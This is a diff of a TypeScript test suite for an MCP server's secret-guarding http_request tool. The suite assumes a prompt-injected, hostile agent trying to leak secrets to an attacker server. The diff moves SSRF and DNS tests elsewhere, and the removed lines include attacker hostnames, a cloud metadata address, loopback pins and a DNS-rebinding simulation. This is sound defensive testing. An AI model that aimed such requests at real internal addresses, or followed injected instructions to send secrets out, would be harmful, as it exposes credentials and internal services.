@@ -1,28 +1,23 @@
 // The agent is hostile: a prompt injection drives every tool call. Each case goes through the real
 // server (the built CLI's `serve`, spawned) over MCP with the SDK's Client, and asserts both that
 // the agent saw no trace of any value (every encoding) and that nothing reached the attacker's
-// server, to which no secret is bound (no request, no TCP connection).
-import { readFileSync } from 'node:fs';
-import { join } from 'node:path';
+// server, to which no secret is bound (no request, no TCP connection). SSRF and DNS cases are in
+// ssrf.test.ts.
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
-import { createGuardedAgent } from '../../src/egress/connector.js';
-import { filesContaining, REPO, runCli, tempHome, type TempHome } from '../helpers/cli.js';
+import { filesContaining, runCli, tempHome, type TempHome } from '../helpers/cli.js';
 import { connectStdio, visible, type StdioSession } from '../helpers/mcp.js';
 import { startStub, type Stub } from '../helpers/stub.js';
 import { expectNoTrace, expectOutcome } from '../helpers/traces.js';
-import { request } from 'undici';
 
 const KEY = 'sk-live+Adv/ers=ar"ial\'&<key>-9f8e7d6c5b4a';
 const PATHKEY = 'pk-path-Value-Q1w2E3r4T5y6U7i8';
 const HDR = 'hdr-only-Value-Zx9Cv8Bn7Mm6Ll5';
-const WILD = 'wild-card-Value-Aa1Bb2Cc3Dd4Ee5';
-const VALUES = [KEY, PATHKEY, HDR, WILD];
+const VALUES = [KEY, PATHKEY, HDR];
 
 let t: TempHome;
 let api: Stub; // the API the secrets are bound to
 let attacker: Stub; // nothing is bound to it; listens on :: so IPv4 and IPv6 loopback both reach it
 let plain: StdioSession;
-let pinned: StdioSession;
 
 const call = (s: StdioSession, args: Record<string, unknown>) => s.call('http_request', args);
 const bearer = { Authorization: 'Bearer <secrets.KEY>' };
@@ -44,17 +39,7 @@ beforeAll(async () => {
   set('KEY', KEY, '--host', api.origin, '--placement', 'header', '--placement', 'query', '--placement', 'body');
   set('PATHKEY', PATHKEY, '--host', api.origin, '--placement', 'path');
   set('HDR', HDR, '--host', api.origin);
-  // A wildcard binding is not an exact-origin opt-in: names under it must still pass the address guard.
-  set('WILD', WILD, '--host', `http://*.evil.test:${attacker.port}`);
   plain = await connectStdio(t.env);
-  pinned = await connectStdio(t.env, [
-    '--resolve', 'evil.test=127.0.0.1',
-    '--resolve', 'a.evil.test=127.0.0.1',
-    '--resolve', 'metadata.test=169.254.169.254',
-    '--resolve', 'mixed.test=93.184.216.34,127.0.0.1',
-    '--resolve', 'v6.test=::1',
-    '--resolve', 'mapped.test=::ffff:127.0.0.1',
-  ]);
 });
 
 beforeEach(() => {
@@ -64,91 +49,12 @@ beforeEach(() => {
 
 afterAll(async () => {
   await plain?.close();
-  await pinned?.close();
   await api?.close();
   await attacker?.close();
   // Over the whole suite: no value in the servers' stderr or any file under the home folder.
-  expectNoTrace(plain.stderr() + pinned.stderr(), VALUES, 'server stderr');
+  expectNoTrace(plain.stderr(), VALUES, 'server stderr');
   expect(filesContaining(t.home, VALUES)).toEqual([]);
   t.cleanup();
-});
-
-describe('SSRF: every URL of test/fixtures/ssrf-urls.txt is refused with no connection opened', () => {
-  const lines = readFileSync(join(REPO, 'test/fixtures/ssrf-urls.txt'), 'utf8')
-    .split('\n')
-    .map((l) => l.trim())
-    .filter((l) => l && !l.startsWith('#'));
-
-  it('has the attack list', () => {
-    expect(lines.length).toBeGreaterThanOrEqual(40);
-  });
-
-  for (const line of lines) {
-    it(`refuses ${line}`, async () => {
-      // Aim every address at the attacker's port, so a connection that got through would be counted.
-      let target = line;
-      try {
-        const u = new URL(line);
-        if (u.protocol === 'http:' || u.protocol === 'https:') {
-          u.protocol = 'http:';
-          u.port = String(attacker.port);
-          target = u.toString();
-        }
-      } catch {
-        // unparseable: sent as is
-      }
-      // Without a secret only the address guard (or the scheme/URL check) stands in the way.
-      const free = await call(plain, { method: 'GET', url: target });
-      expect(free.isError, `${target} was not refused`).toBe(true);
-      const freeCode = /ADDRESS_NOT_ALLOWED|SCHEME_NOT_ALLOWED|BAD_INPUT/.exec(visible(free))?.[0];
-      expect(freeCode, visible(free)).toBeDefined();
-      // With one, host binding refuses first (a bad scheme or URL still fails its own check first);
-      // either way nothing may connect.
-      const withSecret = await call(plain, { method: 'GET', url: target, headers: bearer });
-      expectOutcome(withSecret, { error: freeCode === 'ADDRESS_NOT_ALLOWED' ? 'HOST_NOT_ALLOWED' : freeCode! });
-      expectNoTrace(visible(withSecret), VALUES);
-      attackerSawNothing();
-    });
-  }
-});
-
-describe('DNS answers are checked on the address actually connected to', () => {
-  it.each([
-    ['a name resolving to 127.0.0.1', 'evil.test'],
-    ['a name resolving to the metadata address 169.254.169.254', 'metadata.test'],
-    ['a name answering a public address first and a private one next', 'mixed.test'],
-    ['a name resolving to ::1', 'v6.test'],
-    ['a name resolving to IPv4-mapped ::ffff:127.0.0.1', 'mapped.test'],
-  ])('refuses %s', async (_label, host) => {
-    const r = await call(pinned, { method: 'GET', url: `http://${host}:${attacker.port}/echo` });
-    expect(r.isError).toBe(true);
-    expect(visible(r)).toContain('ADDRESS_NOT_ALLOWED');
-    attackerSawNothing();
-  });
-
-  it('refuses a secret bound by wildcard when the name resolves to a private address', async () => {
-    const r = await call(pinned, { method: 'GET', url: `http://a.evil.test:${attacker.port}/echo`, headers: { 'X-Key': '<secrets.WILD>' } });
-    expectOutcome(r, { error: 'ADDRESS_NOT_ALLOWED' });
-    expectNoTrace(visible(r), VALUES);
-    attackerSawNothing();
-  });
-
-  it('DNS rebinding: a name that answered a public address, then a private one, is refused at connect time', async () => {
-    let lookups = 0;
-    const agent = createGuardedAgent({
-      resolver: async () => (lookups++ === 0 ? [{ address: '203.0.113.7', family: 4 }] : [{ address: '127.0.0.1', family: 4 }]),
-    });
-    try {
-      const first = await request(`http://rebind.test:${attacker.port}/`, { dispatcher: agent }).catch((e: Error) => e);
-      const second = await request(`http://rebind.test:${attacker.port}/`, { dispatcher: agent }).catch((e: Error) => e);
-      expect(first).toBeInstanceOf(Error); // 203.0.113.0/24 is documentation space: refused too
-      expect(second).toBeInstanceOf(Error);
-      expect(lookups).toBe(2);
-      attackerSawNothing();
-    } finally {
-      await agent.close();
-    }
-  });
 });
 
 describe('redirects never carry a secret elsewhere and never reach private addresses', () => {
@@ -327,13 +233,6 @@ describe('error paths carry no value', () => {
     expect(r.isError).toBe(true);
     expect(visible(r)).toContain('TIMEOUT');
     expectNoTrace(visible(r), VALUES);
-  });
-
-  it('a DNS failure', async () => {
-    const r = await call(pinned, { method: 'GET', url: `http://no-such-host.invalid:${attacker.port}/?x=1`, headers: { 'X-Key': 'plain' } });
-    expectOutcome(r, { error: 'UPSTREAM_ERROR' });
-    expectNoTrace(visible(r), VALUES);
-    attackerSawNothing();
   });
 
   it('input validation errors echo no value (the agent never had one to give)', async () => {
